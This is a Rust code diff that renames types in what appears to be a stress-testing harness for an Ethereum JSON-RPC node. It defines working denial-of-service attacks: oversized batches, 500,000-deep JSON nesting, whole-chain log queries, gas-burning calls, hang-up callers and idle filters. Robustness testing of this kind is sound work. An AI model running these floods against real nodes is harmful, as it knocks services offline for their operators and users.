@@ -11,9 +11,9 @@ use slipnet::{accounts::Account, rpc::quantity};
 use tokio::io::AsyncWriteExt;
 
 use super::{
-    attack::{Attack, Face, Facts, Field},
+    attack::{Attack, AttackContext, AttackInfo, AttackSurface},
     http::{call, connect, post},
-    stage::{Call, Money},
+    stage::{Call, SigningParameters},
 };
 
 pub(super) const ALL: &[&dyn Attack] = &[
@@ -44,16 +44,20 @@ fn request(method: &str, params: &Value) -> String {
 struct BatchBomb;
 
 impl Attack for BatchBomb {
-    fn facts(&self) -> Facts {
-        Facts::new(Face::Http, "batch-bomb", "arrays of 1,000 or 5,000 calls, from 16 connections")
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
+            "batch-bomb",
+            "arrays of 1,000 or 5,000 calls, from 16 connections",
+        )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(16, Duration::from_millis(100), |field, index| async move {
             let count = if index % 4 == 0 { 5_000 } else { 1_000 };
             let params = json!([format!("{:#x}", field.target.head), true]);
             let calls = vec![request("eth_getBlockByNumber", &params); count];
-            call(&field, Field::address(index), &format!("[{}]", calls.join(","))).await
+            call(&field, AttackContext::address(index), &format!("[{}]", calls.join(","))).await
         }))
     }
 }
@@ -61,15 +65,15 @@ impl Attack for BatchBomb {
 struct DeepJson;
 
 impl Attack for DeepJson {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "deep-json",
             "bodies of 500,000 opening brackets: alone, as parameters, or as an id",
         )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(8, Duration::from_millis(50), |field, index| async move {
             let deep = "[".repeat(500_000);
             let body = match index % 3 {
@@ -77,7 +81,7 @@ impl Attack for DeepJson {
                 1 => format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_call","params":{deep}"#),
                 _ => format!(r#"{{"jsonrpc":"2.0","method":"eth_chainId","params":[],"id":{deep}"#),
             };
-            call(&field, Field::address(index), &body).await
+            call(&field, AttackContext::address(index), &body).await
         }))
     }
 }
@@ -85,22 +89,22 @@ impl Attack for DeepJson {
 struct LogBomb;
 
 impl Attack for LogBomb {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "log-bomb",
             "eth_getLogs over the whole chain, 24 at a time, half of them with 1,000 topics",
         )
         .quick()
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(24, Duration::from_millis(50), |field, index| async move {
             let mut filter = json!({ "fromBlock": "0x0", "toBlock": "latest" });
             if index % 2 == 0 {
                 filter["topics"] = json!([topics(index)]);
             }
-            call(&field, Field::address(index), &request("eth_getLogs", &json!([filter]))).await
+            call(&field, AttackContext::address(index), &request("eth_getLogs", &json!([filter]))).await
         }))
     }
 }
@@ -113,14 +117,18 @@ pub(super) fn topics(salt: usize) -> Vec<String> {
 struct CallBurner;
 
 impl Attack for CallBurner {
-    fn facts(&self) -> Facts {
-        Facts::new(Face::Http, "call-burner", "eth_call of a loop that burns all available gas, 24 at a time")
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
+            "call-burner",
+            "eth_call of a loop that burns all available gas, 24 at a time",
+        )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
             let params = json!([{ "data": ENDLESS }, "latest"]);
-            call(&field, Field::address(index), &request("eth_call", &params)).await
+            call(&field, AttackContext::address(index), &request("eth_call", &params)).await
         }))
     }
 }
@@ -128,18 +136,18 @@ impl Attack for CallBurner {
 struct EstimateBurner;
 
 impl Attack for EstimateBurner {
-    fn facts(&self) -> Facts {
-        Facts::new(
-            Face::Http,
+    fn facts(&self) -> AttackInfo {
+        AttackInfo::new(
+            AttackSurface::Http,
             "estimate-burner",
             "eth_estimateGas of a loop that burns all available gas, 24 at a time",
         )
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
             let params = json!([{ "data": ENDLESS }]);
-            call(&field, Field::address(index), &request("eth_estimateGas", &params)).await
+            call(&field, AttackContext::address(index), &request("eth_estimateGas", &params)).await
         }))
     }
 }
@@ -147,18 +155,18 @@ impl Attack for EstimateBurner {
 struct GoneCallers;
 
 impl Attack for GoneCallers {
-    fn facts(&self) -> Facts {
+    fn facts(&self) -> AttackInfo {
         let about = "callers that request costly work and hang up at once, 200 a second";
-        Facts::new(Face::Http, "gone-callers", about)
+        AttackInfo::new(AttackSurface::Http, "gone-callers", about)
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(20, Duration::from_millis(100), |field, index| async move {
             let body = match index % 2 {
                 0 => request("eth_call", &json!([{ "data": ENDLESS }, "latest"])),
                 _ => request("eth_getLogs", &json!([{ "fromBlock": "0x0", "toBlock": "latest" }])),
             };
-            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
             stream.write_all((post(body.len()) + &body).as_bytes()).await?;
             stream.flush().await?;
             // Long enough for the node to begin.
@@ -171,15 +179,15 @@ impl Attack for GoneCallers {
 struct IdleFilters;
 
 impl Attack for IdleFilters {
-    fn facts(&self) -> Facts {
+    fn facts(&self) -> AttackInfo {
         let about = "100 new filters a second, each with 1,000 topics, which the caller never polls";
-        Facts::new(Face::Http, "idle-filters", about)
+        AttackInfo::new(AttackSurface::Http, "idle-filters", about)
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(10, Duration::from_millis(50), |field, index| async move {
             let filter = json!({ "fromBlock": "0x0", "topics": [topics(index)] });
-            call(&field, Field::address(index), &request("eth_newFilter", &json!([filter]))).await
+            call(&field, AttackContext::address(index), &request("eth_newFilter", &json!([filter]))).await
         }))
     }
 }
@@ -187,12 +195,12 @@ impl Attack for IdleFilters {
 struct WaitingCalls;
 
 impl Attack for WaitingCalls {
-    fn facts(&self) -> Facts {
+    fn facts(&self) -> AttackInfo {
         let about = "240 addresses, each with one body that lasts as long as allowed: endless calls, or transactions that wait for their receipts";
-        Facts::new(Face::Http, "waiting-calls", about)
+        AttackInfo::new(AttackSurface::Http, "waiting-calls", about)
     }
 
-    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+    fn start(&self, field: AttackContext) -> BoxFuture<'static, Result<()>> {
         Box::pin(field.swarm(WAITING, Duration::from_millis(200), |field, index| async move {
             let body = match index % 4 {
                 0 => awaited(&field, index).await?,
@@ -201,19 +209,20 @@ impl Attack for WaitingCalls {
                     format!("[{}]", vec![endless; ENDLESS_CALLS].join(","))
                 }
             };
-            call(&field, Field::address(index), &body).await
+            call(&field, AttackContext::address(index), &body).await
         }))
     }
 }
 
 /// Returns a body of an account's transactions, each of which gets its receipt before the next one is sent.
-async fn awaited(field: &Field, index: usize) -> Result<String> {
+async fn awaited(field: &AttackContext, index: usize) -> Result<String> {
     let key = field.target.accounts.get(index).context("there are fewer accounts than attackers")?;
     let account = Account::from_hex(key)?;
     let params = json!([account.address, "pending"]);
     let nonce: Value = field.target.rpc(index)?.call("eth_getTransactionCount", params).await?;
     let first = quantity(&nonce)?;
-    let money = Money { chain_id: field.target.chain_id, base_fee_wei: field.target.base_fee_wei };
+    let money =
+        SigningParameters { chain_id: field.target.chain_id, base_fee_wei: field.target.base_fee_wei };
     let sent = (first..first + AWAITED).map(|nonce| {
         let signed = money.sign(&account, nonce, 1, Call::transfer(Address::repeat_byte(0xdd)));
         request("eth_sendRawTransactionSync", &json!([signed.raw, 20_000]))
